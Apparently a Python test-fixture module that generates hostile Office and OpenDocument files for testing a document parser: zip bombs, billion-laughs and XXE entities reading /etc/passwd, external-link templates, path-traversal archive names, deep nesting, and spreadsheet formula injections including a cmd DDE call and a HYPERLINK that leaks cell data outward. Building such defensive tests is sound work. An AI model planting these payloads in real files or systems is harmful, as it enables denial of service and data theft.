"""Office files: archives that unpack without end, XML that reaches out, sheets without measure."""

from __future__ import annotations

import io
import lzma
import struct
import zlib
from functools import cache

import pptx
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches

from tests.hostile.packing import ENCRYPTED, LZMA, Entry, archive, entry, flooded, parts, repacked

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
DECLARED = '<?xml version="1.0" encoding="UTF-8"?>\n'
DOCX, XLSX = "wordprocessingml.document", "spreadsheetml.sheet"
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
)


def types(kind: str, main: str) -> bytes:
    override = (
        f'<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>'
    )
    default = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    plain = '<Default Extension="xml" ContentType="application/xml"/>'
    return f'{DECLARED}<Types xmlns="{PACKAGE}/content-types">{default}{plain}{override}</Types>'.encode()


def relations(*found: tuple[str, str, str]) -> bytes:
    """Relations of (kind, target, mode); their ids are rId1, rId2 …"""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{R}/{kind}" Target="{target}" {mode}/>'
        for number, (kind, target, mode) in enumerate(found, 1)
    )
    return f'{DECLARED}<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'.encode()


# Word ----------------------------------------------------------------------------------------------------------------
def word(body: str, declared: str = "") -> bytes:
    return f"{DECLARED}{declared}<w:document {W}><w:body>{body}</w:body></w:document>".encode()


def said(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def docx_parts(document: bytes, **more: bytes) -> list[Entry]:
    return [
        entry("[Content_Types].xml", types(DOCX, "word/document.xml")),
        entry("_rels/.rels", relations(("officeDocument", "word/document.xml", ""))),
        entry("word/document.xml", document),
        *(entry(name.replace("__", "/"), data) for name, data in more.items()),
    ]


def docx(body: str, declared: str = "") -> bytes:
    return archive(docx_parts(word(body, declared)))


def docx_flood(size: int, letters: bytes) -> bytes:
    before, after = word("|").split(b"|")
    document = flooded("word/document.xml", size, letters, before, after)
    return archive([*docx_parts(b"")[:2], document])


def docx_bomb() -> bytes:
    """390 MB of blanks in 0.4 MB: less than may be unpacked, but nobody writes so."""
    return docx_flood(390_000_000, b" ")


def docx_many_elements() -> bytes:
    """Some 0.8 MB that are 100 MB of empty paragraphs; as a tree they would take gigabytes."""
    ballast = Entry("word/media/noise.bin", noise(720_000), 720_000, zlib.crc32(noise(720_000)), method=0)
    before, after = word("|").split(b"|")
    document = flooded("word/document.xml", 100_000_000, b"<w:p/>", before, after)
    return archive([*docx_parts(b"")[:2], document, ballast])


@cache
def noise(size: int) -> bytes:
    """Bytes that cannot be packed, always the same."""
    pieces, state = [], b"seed"
    while size > 0:
        state = zlib.crc32(state).to_bytes(4, "big") + state[:60]
        pieces.append(state[:4])
        size -= 4
    return b"".join(pieces)


def docx_laughs() -> bytes:
    return docx(said("&a11;"), LAUGHS)


def docx_entity(address: str) -> bytes:
    return docx(said("&e;"), f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>')


def docx_wide_entity() -> bytes:
    """The same in UTF-16, where a search for the words would not find them."""
    text = word(said("&e;"), '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>').decode()
    return archive(docx_parts(text.replace("UTF-8", "UTF-16").encode("utf-16")))


def docx_reaching_out(outside: str) -> bytes:
    """A template, a picture and a chapter that lie elsewhere."""
    picture = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{R}" r:link="rId1"/></w:drawing></w:r></w:p>'
    )
    chapter = f'<w:altChunk xmlns:r="{R}" r:id="rId2"/>'
    away = 'TargetMode="External"'
    settings = f'{DECLARED}<w:settings {W} xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    return archive(
        docx_parts(
            word(said("The picture is elsewhere.") + picture + chapter),
            **{
                "word___rels__document.xml.rels": relations(
                    ("image", f"{outside}/image.png", away),
                    ("aFChunk", f"{outside}/chapter.html", away),
                    ("footnotes", f"{outside}/notes.xml", away),
                    ("settings", "settings.xml", ""),
                ),
                "word__settings.xml": settings.encode(),
                "word___rels__settings.xml.rels": relations(("attachedTemplate", f"{outside}/template.dotm", away)),
            },
        )
    )


def docx_entries(count: int = 100_000) -> bytes:
    return archive([*docx_parts(word(said("One of many."))), *(entry(f"word/{n}.xml", b"") for n in range(count))])


def docx_locked() -> bytes:
    return archive([*docx_parts(word(said("Locked."))), entry("word/locked.xml", b"?" * 40, flags=ENCRYPTED)])


def docx_wrong_size() -> bytes:
    """The directory says of a part of 390 MB that it has a hundred bytes."""
    honest = flooded("word/document.xml", 390_000_000, b" ", *word("|").split(b"|"))
    return archive([*docx_parts(b"")[:2], Entry(honest.name, honest.packed, 100, honest.crc)])


def docx_wrong_directory() -> bytes:
    return archive(docx_parts(word(said("Four thousand million bytes of directory."))), directory_size=0xFFFFFFF0)


def docx_twice() -> bytes:
    both = [*docx_parts(word(said("The first of two."))), entry("word/document.xml", word(said("The second of two.")))]
    return archive(both)


def docx_paths() -> bytes:
    names = ("../../../../tmp/lectern-was-here.xml", "/tmp/lectern-was-here.xml", "C:\\lectern.xml", "word/\0.xml")
    return archive([*docx_parts(word(said("Names that lead elsewhere."))), *(entry(n, b"<x/>") for n in names)])


def docx_lzma() -> bytes:
    """A part packed so that unpacking it wants a dictionary of 4 GB."""
    data = word(said("Packed as no office program packs."))
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]
    packer = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=filters)
    packed = packer.compress(data) + packer.flush()
    properties = struct.pack("<BBHBI", 9, 4, 5, 93, 0xFFFFFFFF)
    part = Entry("word/document.xml", properties + packed, len(data), zlib.crc32(data), method=LZMA)
    return archive([*docx_parts(b"")[:2], part])


def docx_quoted_end(count: int = 300_000) -> bytes:
    """A vast directory, hidden by what looks like the larger record of its size and is none."""
    names = (Entry(f"{n}", b"", 0, 0, method=0) for n in range(count))
    quoted = b"\0" * 56 + b"PK\x06\x07" + struct.pack("<IQI", 0, 0, 1)
    return archive([*docx_parts(word("")), *names, Entry("last", b"", 0, 0, method=0, remark=quoted)])


def docx_deep(depth: int = 50_000) -> bytes:
    return docx(said("Deep down.") + "<w:sdt><w:sdtContent>" * depth + "</w:sdtContent></w:sdt>" * depth)


def docx_tables(depth: int = 60) -> bytes:
    """Tables in tables, as deep as XML may go."""
    row, end = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return docx(row * depth + said("In the innermost cell.") + end * depth)


# Sheets --------------------------------------------------------------------------------------------------------------
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def book(sheet: Entry, **more: Entry) -> bytes:
    listed = [("worksheet", "worksheets/sheet1.xml", ""), *((kind, f"{kind}.xml", "") for kind in more)]
    sheets = '<sheets><sheet name="Costs" sheetId="1" r:id="rId1"/></sheets>'
    workbook = f'{DECLARED}<workbook {S} xmlns:r="{R}">{sheets}</workbook>'
    return archive(
        [
            entry("[Content_Types].xml", types(XLSX, "xl/workbook.xml")),
            entry("_rels/.rels", relations(("officeDocument", "xl/workbook.xml", ""))),
            entry("xl/workbook.xml", workbook.encode()),
            entry("xl/_rels/workbook.xml.rels", relations(*listed)),
            sheet,
            *more.values(),
        ]
    )


def sheet(rows: str, before: str = "") -> Entry:
    text = f"{DECLARED}<worksheet {S}>{before}<sheetData>{rows}</sheetData></worksheet>"
    return entry("xl/worksheets/sheet1.xml", text.encode())


def cell(place: str, words: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


def row(number: int, *cells: str) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


def xlsx_far_cell() -> bytes:
    rows = row(1, cell("A1", "near")) + row(1_048_576, cell("A1048576", "far below"), cell("XFD1048576", "far away"))
    return book(sheet(rows))


def xlsx_dimension() -> bytes:
    return book(sheet(row(1, cell("A1", "Only this.")), '<dimension ref="A1:XFD1048576"/>'))


def xlsx_empty_rows(count: int = 1_000_000) -> bytes:
    rows = "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(2, count))
    return book(sheet(row(1, cell("A1", "One row is full.")) + rows))


def xlsx_words() -> bytes:
    """Shared strings of 420 MB."""
    around = (f"{DECLARED}<sst {S}>".encode(), b"</sst>")
    words = flooded("xl/sharedStrings.xml", 420_000_000, b"<si><t>word</t></si>", *around)
    return book(sheet(row(1, '<c r="A1" t="s"><v>0</v></c>')), sharedStrings=words)


def xlsx_one_word(size: int = 1_000_000, times: int = 20_000) -> bytes:
    """One string of a million letters, shown in twenty thousand cells."""
    words = entry("xl/sharedStrings.xml", f"{DECLARED}<sst {S}><si><t>{'word ' * (size // 5)}</t></si></sst>".encode())
    rows = "".join(row(n, f'<c r="A{n}" t="s"><v>0</v></c>') for n in range(1, times))
    return book(sheet(rows), sharedStrings=words)


def xlsx_formulas(outside: str) -> bytes:
    """Formulas that would run a program or tell somebody something."""
    told = (
        "=cmd|' /C calc'!A0",
        f"=HYPERLINK(&quot;{outside}/?leak=&quot;&amp;A1)",
        f"=WEBSERVICE(&quot;{outside}/web&quot;)",
    )
    rows = [
        row(n, cell(f"A{n}", text), f"<c r='B{n}' t='str'><f>{text[1:]}</f><v>{text}</v></c>")
        for n, text in enumerate(told, 1)
    ]
    return book(sheet("".join(rows)))


def xlsx_columns(count: int = 100_000, rows: int = 300) -> bytes:
    """Very many hidden ranges of columns, and cells to look them up for."""
    hidden = "".join(f'<col min="{n}" max="{n}" hidden="1"/>' for n in range(2_000, 2_000 + count))
    full = "".join(row(n, *(f'<c r="{c}{n}"><v>7</v></c>' for c in "ABCDEFGH")) for n in range(1, rows))
    return book(sheet(full, f"<cols>{hidden}</cols>"))


def xlsx_format() -> bytes:
    """A number format of a million signs."""
    code = "&quot;[$-409]0.0#,?/?*x_)" * 50_000
    formats = f'<numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>'
    style = f"{DECLARED}<styleSheet {S}>{formats}</styleSheet>"
    cells = "".join(row(n, f'<c r="A{n}" s="0"><v>{n}.5</v></c>') for n in range(1, 50))
    return book(sheet(cells), styles=entry("xl/styles.xml", style.encode()))


# Presentations -------------------------------------------------------------------------------------------------------
def deck(*, chart: bool = False) -> dict[str, bytes]:
    presentation = pptx.Presentation()
    for number in (1, 2):
        slide = presentation.slides.add_slide(presentation.slide_layouts[5])
        slide.shapes.title.text = f"Slide {number} of a round"
        if chart and number == 1:
            figures = CategoryChartData()
            figures.categories = ["North", "South"]
            figures.add_series("Wells", (3, 4))
            slide.shapes.add_chart(XL_CHART_TYPE.BAR_CLUSTERED, 0, 0, Inches(4), Inches(3), figures)
    out = io.BytesIO()
    presentation.save(out)
    return parts(out.getvalue())


def pptx_cycle(*kinds: str) -> bytes:
    """Slides that are related to each other in these ways."""
    files = deck()
    for number, other in ((1, 2), (2, 1)):
        name = f"ppt/slides/_rels/slide{number}.xml.rels"
        more = "".join(
            f'<Relationship Id="rId9{n}" Type="{R}/{kind}" Target="slide{other}.xml"/>' for n, kind in enumerate(kinds)
        )
        files[name] = files[name].replace(b"</Relationships>", more.encode() + b"</Relationships>")
    return repacked(files)


def pptx_chart(count: int = 2_000_000_000) -> bytes:
    """A chart that says it has two thousand million points."""
    files = deck(chart=True)
    name = next(name for name in files if name.startswith("ppt/charts/chart"))
    files[name] = files[name].replace(b'<c:ptCount val="2"/>', b'<c:ptCount val="%d"/>' % count)
    return repacked(files)


def pptx_groups(depth: int = 3_000) -> bytes:
    """Groups in groups."""
    files = deck()
    group = '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    name = "ppt/slides/slide1.xml"
    files[name] = files[name].replace(b"</p:spTree>", (group * depth + "</p:grpSp>" * depth).encode() + b"</p:spTree>")
    return repacked(files)


def pptx_laughs() -> bytes:
    files = deck()
    name = "ppt/slides/slide1.xml"
    files[name] = files[name].replace(b"<p:sld ", LAUGHS.encode() + b"<p:sld ", 1).replace(b"Slide 1", b"&a11;")
    return repacked(files)


# OpenDocument --------------------------------------------------------------------------------------------------------
OFFICE = "urn:oasis:names:tc:opendocument:xmlns"


def odt(body: str, declared: str = "", *, flood_of: bytes = b"", size: int = 0) -> bytes:
    spaces = f'xmlns:office="{OFFICE}:office:1.0" xmlns:text="{OFFICE}:text:1.0" xmlns:table="{OFFICE}:table:1.0"'
    links = 'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    content = (
        f"{DECLARED}{declared}<office:document-content {spaces} {links}><office:body><office:text>{body}|"
        "</office:text></office:body></office:document-content>"
    ).encode()
    before, after = content.split(b"|")
    return archive(
        [
            entry("mimetype", b"application/vnd.oasis.opendocument.text"),
            entry("META-INF/manifest.xml", f'<manifest:manifest xmlns:manifest="{OFFICE}:manifest:1.0"/>'.encode()),
            flooded("content.xml", size, flood_of, before, after) if size else entry("content.xml", before + after),
        ]
    )


def odt_bomb() -> bytes:
    return odt("", flood_of=b" ", size=390_000_000)


def odt_laughs() -> bytes:
    return odt("<text:p>&a11;</text:p>", LAUGHS)


def odt_repeated() -> bytes:
    """A cell, a row and a blank, each two thousand million times."""
    times = 2_000_000_000
    cells = f'<table:table-cell table:number-columns-repeated="{times}"><text:p>again</text:p></table:table-cell>'
    rows = f'<table:table><table:table-row table:number-rows-repeated="{times}">{cells}</table:table-row></table:table>'
    return odt(rows * 20 + f'<text:p>one<text:s text:c="{times}"/>two</text:p>')


def odt_reaching_out(outside: str) -> bytes:
    frame = f'<draw:frame><draw:image xlink:href="{outside}/image.png" xlink:actuate="onLoad"/></draw:frame>'
    section = f'<text:section><text:section-source xlink:href="{outside}/part.odt"/></text:section>'
    return odt(f"<text:p>A picture from elsewhere.{frame}</text:p>{section}")


def zipped() -> bytes:
    return archive([entry("notes.txt", b"Only an archive.")])
